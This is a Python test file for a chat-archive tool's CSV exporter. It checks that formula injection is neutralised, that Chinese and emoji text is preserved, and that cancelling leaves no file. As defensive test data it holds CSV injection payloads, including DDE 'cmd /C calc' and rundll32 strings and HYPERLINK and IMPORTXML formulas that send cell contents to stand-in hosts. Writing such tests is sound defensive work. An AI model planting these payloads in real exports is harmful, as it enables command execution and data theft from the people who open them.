"""CSV export: one row per message read back with `csv`, formula payloads neutralised, Chinese and
emoji intact with and without a BOM, cancel leaves no file."""

from __future__ import annotations

import csv

from chatvault.export.csvfmt import COLUMNS, FILE_NAME, export_csv, safe_cell
from chatvault.export.selection import Selection
from chatvault.jobs import JobContext
from chatvault.search.api import SearchFilters
from tests.export_data import fill


def _read(path, encoding="utf-8") -> list[dict[str, str]]:
    with open(path, encoding=encoding, newline="") as f:
        return list(csv.DictReader(f))


def test_safe_cell() -> None:
    for payload in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
        assert safe_cell(payload) == "'" + payload
    assert safe_cell("1-2") == "1-2" and safe_cell("你好") == "你好" and safe_cell(None) == ""


def test_rows_read_back_with_formulas_neutralised_and_chinese_intact(vault, tmp_path):
    conn = vault.connect()
    counts = fill(vault, conn)
    report = export_csv(vault, Selection(), tmp_path / "out", JobContext())
    raw = (tmp_path / "out" / FILE_NAME).read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    rows = _read(tmp_path / "out" / FILE_NAME)
    assert list(rows[0]) == list(COLUMNS)
    assert len(rows) == counts["messages"] == report.messages
    by_id = {r["message_id"]: r for r in rows}
    assert by_id["1"]["text"] == "你好 👋 今天吃什么？" and by_id["1"]["conversation"] == "家人群 🏠"
    assert by_id["1"]["edited"] == "true" and by_id["1"]["time"] == "2023-11-15T06:14:20+08:00"
    assert by_id["1"]["time_utc"] == "2023-11-14T22:14:20.000Z"
    assert by_id["2"]["text"] == "'=HYPERLINK(\"http://evil\",\"click\")" and by_id["2"]["reply_to_id"] == "1"
    assert by_id["3"]["text"] == "'+1 more 😀" and by_id["3"]["status"] == "deleted_at_source"
    assert by_id["4"]["text"] == "'-2+3" and by_id["4"]["recalled"] == "true"
    assert by_id["5"]["text"] == "'@SUM(A1:A2)" and by_id["6"]["text"].startswith("'\t")
    for r in rows:           # no cell anywhere starts like a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values()), r
    assert by_id["7"]["described"] == "[Transfer] ¥88.00 · 晚饭 · received"
    assert by_id["15"]["text"] == "line one\nline two, \"quoted\""
    assert by_id["12"]["attachments"] == "合同.pdf" and by_id["12"]["source_message_id"] == "svr12"
    assert by_id["12"]["import_run"] == "1" and by_id["12"]["source_location"] == "MSG0.db:row"


def test_bom_for_excel_media_paths_and_chinese_wording(vault, tmp_path):
    conn = vault.connect()
    fill(vault, conn)
    sel = Selection("", SearchFilters(conversations=[1]))
    report = export_csv(vault, sel, tmp_path / "o", JobContext(), bom=True, media=True, lang="zh_CN")
    raw = (tmp_path / "o" / FILE_NAME).read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    rows = _read(tmp_path / "o" / FILE_NAME, encoding="utf-8-sig")
    assert list(rows[0]) == list(COLUMNS) and len(rows) == report.messages == 15
    photo = next(r for r in rows if r["kind"] == "image")
    assert photo["attachment_paths"] == "media/IMG_0001.png" and (tmp_path / "o" / "media" / "IMG_0001.png").exists()
    assert next(r for r in rows if r["kind"] == "call")["described"] == "[呼出的语音通话] 1:05"


def test_cancel_mid_way_leaves_no_csv(vault, tmp_path):
    conn = vault.connect()
    fill(vault, conn)

    class CancelMidWay(JobContext):
        def advance(self, items: int = 0, bytes_: int = 0) -> None:
            super().advance(items, bytes_)
            if self.snapshot().items_done >= 10:
                self.cancel()

    report = export_csv(vault, Selection(), tmp_path / "c", CancelMidWay(), batch=5)
    assert report.cancelled and not (tmp_path / "c").exists()
    (tmp_path / "keep").mkdir()
    (tmp_path / "keep" / "mine.txt").write_text("x")
    assert export_csv(vault, Selection(), tmp_path / "keep", CancelMidWay(), batch=5).cancelled
    assert [p.name for p in (tmp_path / "keep").iterdir()] == ["mine.txt"]      # the user's folder stays as it was


def _payloads() -> list[str]:
    """Formula payloads as OWASP lists them, in many spellings: 6 triggers × 20 bodies = 120."""
    bodies = ["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.invalid/?\"&A1,\"Error\")", "SUM(1,1)*cmd|'/C calc'!A0",
              "IMPORTXML(CONCAT(\"http://x.invalid/?v=\",A1),\"//a\")", "2+5+cmd|' /C calc'!A0", "A1", "1", "@SUM(1)",
              "DDE(\"cmd\";\"/C calc\";\"!A0\")", "WEBSERVICE(\"http://x.invalid\")", "\"=1\"", "1\n2", "你好",
              "😀=1", "=1", "-1", "+1", "\t=1", "rundll32|'URL.dll,OpenURL calc'!A"]
    return [t + b for t in ("=", "+", "-", "@", "\t", "\r") for b in bodies]


def test_every_formula_payload_is_neutralised_wherever_it_sits(vault, tmp_path):
    import json as _json

    payloads = _payloads()
    conn = vault.connect()
    conn.execute("BEGIN")
    conn.execute("INSERT INTO sources(id, app, account, created_at) VALUES (1, 'whatsapp', '', 0)")
    conn.execute("INSERT INTO conversations(id, source_id, source_key, title, created_at) VALUES (1, 1, 'c', ?, 0)",
                 ("=HYPERLINK(\"http://x.invalid\")",))
    for i, p in enumerate(payloads):
        conn.execute("INSERT INTO participants(id, source_id, source_key, display_name) VALUES (?, 1, ?, ?)",
                     (i + 1, f"@p{i}", p))
        conn.execute("INSERT INTO messages(id, conversation_id, source_key, ts, sender_id, kind, text, extra, "
                     "forwarded_from) VALUES (?, 1, ?, ?, ?, ?, ?, ?, ?)",
                     (i + 1, p, 1_600_000_000_000 + i, i + 1, "file" if i % 2 else "text", p,
                      _json.dumps({"file_name": p}), p))
        if i % 2:
            conn.execute("INSERT INTO attachments(message_id, ordinal, status, original_name) VALUES (?, 0, 'missing', ?)",
                         (i + 1, p))
    conn.execute("COMMIT")
    export_csv(vault, Selection(), tmp_path / "x", JobContext())
    rows = _read(tmp_path / "x" / FILE_NAME)
    assert len(rows) == len(payloads) >= 100
    cells = [v for r in rows for v in r.values() if v]
    dangerous = [v for v in cells if v[0] in "=+-@\t\r"]
    assert not dangerous, dangerous[:5]
    for r, p in zip(rows, payloads, strict=True):      # the text is all there, behind one quote
        assert r["text"] == "'" + p and r["sender"] == "'" + p and r["forwarded_from"] == "'" + p
